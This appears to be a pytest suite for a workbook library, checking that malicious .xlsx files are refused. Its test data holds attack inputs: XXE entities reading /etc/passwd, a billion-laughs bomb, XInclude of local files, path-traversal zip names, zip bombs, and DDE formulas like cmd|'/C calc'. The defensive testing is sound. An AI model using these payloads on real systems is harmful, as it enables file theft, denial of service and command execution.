"""A workbook file that is made to harm is refused with one sentence, and nothing of it is followed."""

import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.fuzz.workbooks import whole, zipped
from xlinventory.core.errors import CellError
from xlinventory.hosts.file import FileWorkbook, engine, package
from xlinventory.workbook import WorkbookError

BOOK, SHEET, TABLE, STRINGS = (
    "xl/workbook.xml",
    "xl/worksheets/sheet2.xml",
    "xl/tables/table2.xml",
    "xl/sharedStrings.xml",
)
RELS = "xl/_rels/workbook.xml.rels"
LAUGHS = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
DEFINITIONS = {
    "a plain one": "<!DOCTYPE x>",
    "billion laughs": f'<!DOCTYPE x [<!ENTITY a0 "ha">{LAUGHS}]>',
    "a file of this computer": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "a definition elsewhere": '<!DOCTYPE x SYSTEM "http://x.example/x.dtd">',
    "parameters": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x.example/x">%a;]>',
}
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-7", "utf-32", "cp037")


def serve(path: Path, parts: dict[str, bytes]) -> FileWorkbook:
    """Open the file and read every table of it."""
    path.write_bytes(zipped(list(parts.items())))
    book = FileWorkbook.open(path)
    for name in book.table_names():
        book.read_table(name)
    book.calculate()
    return book


def refused(path: Path, parts: dict[str, bytes]) -> str:
    with pytest.raises(WorkbookError) as caught:
        serve(path, parts)
    told = str(caught.value)
    assert "\n" not in told
    assert len(told) < 300
    return told


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "book.xlsx"


def changed(part: str, change: Callable[[str], str], encoding: str = "utf-8") -> dict[str, bytes]:
    """The parts of a good workbook, one of them changed and in an encoding."""
    parts = dict(whole())
    text = change(parts[part].decode("utf-8"))
    named = re.sub(r'encoding="UTF-8"', f'encoding="{encoding.removesuffix("-sig")}"', text)
    parts[part] = named.encode(encoding)
    return parts


@pytest.mark.parametrize("definition", DEFINITIONS)
@pytest.mark.parametrize(
    "part", [BOOK, SHEET, TABLE, STRINGS, RELS], ids=lambda part: part.rpartition("/")[2]
)
def test_a_document_type_definition_is_refused_wherever_it_stands(
    path: Path, part: str, definition: str
) -> None:
    parts = changed(part, lambda text: text.replace("?>", f"?>{DEFINITIONS[definition]}", 1))
    assert "document type definition" in refused(path, parts)


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_no_encoding_hides_one(path: Path, encoding: str) -> None:
    """In an attribute an entity would be put in even where entities in text are left alone."""
    given = DEFINITIONS["billion laughs"]
    parts = changed(
        TABLE,
        lambda text: text.replace("?>", f"?>{given}", 1).replace('ref="', 'x="&a9;" ref="', 1),
        encoding,
    )
    assert re.search("document type definition|cannot be read", refused(path, parts))


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_a_part_in_another_encoding_is_read_and_saved(path: Path, encoding: str) -> None:
    """Else a table in UTF-16 would keep its old address, and its new rows would be lost."""
    parts = dict(whole()) | {name: changed(name, str, encoding)[name] for name in (BOOK, TABLE, SHEET)}
    book = serve(path, parts)
    rows = book.read_table("Items")
    book.write_table("Items", rows.loc[[*rows.index] * 3].reset_index(drop=True))
    book.save()
    assert FileWorkbook.open(path).read_table("Items")["sku"].tolist() == ["A", "00123"] * 3


def test_other_files_are_not_put_in(path: Path) -> None:
    secret = path.with_name("secret.txt")
    secret.write_text("secret")
    namespace = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    include = f'<x {namespace}><xi:include href="{secret.as_uri()}" parse="text"/></x>'
    book = serve(path, changed(SHEET, lambda text: text.replace("</worksheet>", f"{include}</worksheet>")))
    book.write_table("Items", book.read_table("Items"))
    book.save()
    with zipfile.ZipFile(path) as archive:
        assert all(b"secret</" not in archive.read(name) for name in archive.namelist())


@pytest.mark.parametrize(
    "target",
    ["file:///etc/passwd", "http://x.example/sheet.xml", "\\\\x.example\\share\\x", "../../../../etc/passwd"],
)
def test_what_leads_out_of_the_workbook_is_not_followed(path: Path, target: str) -> None:
    mode = "" if target.startswith("..") else ' TargetMode="External"'
    parts = changed(
        RELS, lambda text: text.replace('Target="worksheets/sheet2.xml"', f'Target="{target}"{mode}')
    )
    assert "damaged" in refused(path, parts)


def test_entries_that_name_a_place_outside_stay_in_the_file(path: Path) -> None:
    """Nothing is unpacked to a folder: such an entry is a part like any other."""
    names = ("../../evil.txt", "/evil.txt", "C:\\evil.txt", "..\\evil.txt")
    book = serve(path, dict(whole()) | dict.fromkeys(names, b"evil"))
    book.write_table("Items", book.read_table("Items"))
    book.save()
    assert [file.name for file in path.parent.rglob("*")] == ["book.xlsx"]
    assert not (path.parent.parent / "evil.txt").exists()


def raw(path: Path, entries: list[tuple[str, bytes]]) -> str:
    path.write_bytes(zipped(entries))
    with pytest.raises(WorkbookError) as caught:
        FileWorkbook.open(path)
    return str(caught.value)


def test_two_parts_of_one_name_are_refused(path: Path) -> None:
    """One program would read the first, another the second."""
    parts = list(whole().items())
    assert "two parts that are called xl/workbook.xml" in raw(path, [*parts, (BOOK, whole()[BOOK])])
    assert "two parts that are called xl/workbook.xml" in raw(path, [*parts, ("XL/Workbook.xml", b"")])


def test_more_parts_than_a_workbook_has_are_refused(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(package, "MOST_PARTS", len(whole()))
    assert "parts, more than a workbook may" in raw(path, [*whole().items(), ("one more", b"")])


def overlapped(data: bytes) -> bytes:
    """Every entry of the directory leads to the first one's bytes, as in a bomb without nesting."""
    places = [match.start() for match in re.finditer(b"PK\x01\x02", data)]
    for place in places:
        data = data[: place + 42] + struct.pack("<I", 0) + data[place + 46 :]
    return data


def test_parts_that_lie_over_each_other_are_refused(path: Path) -> None:
    path.write_bytes(overlapped(zipped(list(whole().items()))))
    with pytest.raises(WorkbookError, match="one part of it lies over another"):
        FileWorkbook.open(path)


@pytest.mark.parametrize("size", [0, 5, 0x7FFFFFFF])
def test_a_size_that_lies_is_found_out(path: Path, size: int) -> None:
    """A part is read up to the size it claims, and what was read is checked against its sum."""
    data = zipped(list(whole().items()))
    places = [match.start() for match in re.finditer(b"PK\x01\x02", data)]
    place = next(place for place in places if data[place + 46 :].startswith(SHEET.encode()))
    path.write_bytes(data[: place + 24] + struct.pack("<I", size) + data[place + 28 :])
    with pytest.raises(WorkbookError, match=r"damaged|unpack"):
        FileWorkbook.open(path).read_table("Items")


def test_a_workbook_in_a_workbook_is_not_opened(path: Path) -> None:
    """Nested bombs need somebody to unpack what was unpacked."""
    bomb = zipped([("x", bytes(1 << 20))])
    for _ in range(5):
        bomb = zipped([(str(i), bomb) for i in range(10)])
    serve(path, dict(whole()) | {"xl/embeddings/book.xlsx": bomb})


SHEETS = {
    "a text that is not there": ('<c r="A2" t="s"><v>99999</v></c>', "cannot be read"),
    "a text counted from the end": ('<c r="A2" t="s"><v>-1</v></c>', "cannot be read"),
    "no number": ('<c r="F2"><v>nan</v></c>', "cannot be read"),
    "a number without end": ('<c r="F2"><v>1e999</v></c>', "cannot be read"),
    "a formula over the whole sheet": (
        '<c r="AZ9"><f t="array" ref="AZ9:XFD1048576">1</f><v>1</v></c>', "cannot be read",
    ),
    "an array nowhere": ('<c r="AZ9"><f t="array" ref="AZ">1</f><v>1</v></c>', "cannot be read"),
    "a cell beside the sheet": ('<c r="XFE1"><f>A1</f><v>1</v></c>', "cannot be read"),
    "an unfinished cell": ("<c><c><c>", "cannot be read"),
}  # fmt: skip


@pytest.mark.parametrize("case", SHEETS)
def test_a_sheet_that_cannot_be_is_refused(path: Path, case: str) -> None:
    cell, told = SHEETS[case]
    assert told in refused(path, changed(SHEET, lambda text: text.replace("</row>", f"{cell}</row>", 1)))


TABLES = {
    "over another": ('ref="A1:AK3"', 'ref="A1:AK2000000"'),
    "narrower than its columns": ('ref="A1:AK3"', 'ref="A1:B3"'),
    "upside down": ('ref="A1:AK3"', 'ref="A3:AK1"'),
    "nowhere": ('ref="A1:AK3"', 'ref="somewhere"'),
    "of columns only": ('ref="A1:AK3"', 'ref="A:AK"'),
    "two columns alike": ('name="category"', 'name="Name"'),
}


@pytest.mark.parametrize("case", TABLES)
def test_a_table_that_cannot_be_is_refused(path: Path, case: str) -> None:
    """What is written into it would be lost when it is read again."""
    old, new = TABLES[case]
    assert old in whole()[TABLE].decode()
    assert "damaged" in refused(path, changed(TABLE, lambda text: text.replace(old, new)))


def test_two_tables_of_one_name_are_refused(path: Path) -> None:
    parts = changed("xl/tables/table3.xml", lambda text: text.replace('"Suppliers"', '"ITEMS"'))
    assert "two are called 'ITEMS'" in refused(path, parts)


def test_a_formula_nobody_can_read_keeps_its_value(path: Path) -> None:
    """Found by fuzzing: an unmatched bracket, or one that closes nothing, was an exception."""
    formulas = {"A20": "Items[sku", "B20": "1)"}
    cells = "".join(f'<c r="{place}"><f>{text}</f><v>7</v></c>' for place, text in formulas.items())
    rows = f'<row r="20">{cells}</row></sheetData>'
    book = serve(path, changed("xl/worksheets/sheet7.xml", lambda text: text.replace("</sheetData>", rows)))
    shown = {
        (row, column): value for sheet, row, column, _, value in book.formula_values() if sheet == "Mine"
    }
    assert [value for (row, column), value in shown.items() if row >= 20] == [7.0] * 2
    assert {"Mine!A20", "Mine!B20"} <= set(book.uncomputed)


def test_names_that_stand_for_names_do_not_grow_without_end(path: Path) -> None:
    """Each stands for the one before twice: written out, the last would be longer than any memory."""
    names = "".join(f'<definedName name="n{i}">n{i - 1}+n{i - 1}</definedName>' for i in range(1, 60))
    deep = "".join(f'<definedName name="d{i}">d{i - 1}</definedName>' for i in range(1, 2_000))
    parts = changed(BOOK, lambda text: text.replace("<definedNames>", f"<definedNames>{names}{deep}"))
    cells = (
        '<row r="20"><c r="A20"><f>n59</f><v>7</v></c><c r="B20"><f>d1999</f><v>8</v></c></row></sheetData>'
    )
    parts["xl/worksheets/sheet7.xml"] = parts["xl/worksheets/sheet7.xml"].replace(
        b"</sheetData>", cells.encode()
    )
    book = serve(path, parts)
    shown = {
        column: value
        for sheet, row, column, _, value in book.formula_values()
        if (sheet, row) == ("Mine", 20)
    }
    assert shown == {1: 7.0, 2: 8.0}


def test_a_formula_that_leaves_the_workbook_is_not_calculated(path: Path) -> None:
    """Excel does so when its user permits it; here the cell keeps what it showed."""
    formulas = (
        "WEBSERVICE(&quot;http://x.example&quot;)",
        "_xlfn.WEBSERVICE(A1)",
        "cmd|'/C calc'!A0",
        "CALL(&quot;kernel32&quot;)",
        "[1]Sheet1!A1",
        "RTD(&quot;x&quot;)",
    )
    cells = "".join(f'<c r="{chr(65 + i)}20"><f>{text}</f><v>7</v></c>' for i, text in enumerate(formulas))
    rows = f'<row r="20">{cells}</row></sheetData>'
    book = serve(path, changed("xl/worksheets/sheet7.xml", lambda text: text.replace("</sheetData>", rows)))
    shown = [value for sheet, row, _, _, value in book.formula_values() if (sheet, row) == ("Mine", 20)]
    assert all(value == 7.0 or isinstance(value, CellError) for value in shown)
    assert shown[:2] == [7.0, 7.0]


def test_a_calculation_that_breaks_down_is_a_sentence(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Found by fuzzing: the engine's own kind of failure is none of Python's, and went through everything."""

    class PanicException(BaseException):
        pass

    def panic(_: object) -> None:
        raise PanicException("Col 16384 exceeds 14 bits")

    path.write_bytes(zipped(list(whole().items())))
    book = FileWorkbook.open(path)
    book.write_table("Items", book.read_table("Items"))
    monkeypatch.setattr(engine.formualizer.Workbook, "evaluate_all", panic)
    with pytest.raises(WorkbookError, match="could not be calculated: Col 16384"):
        book.calculate()
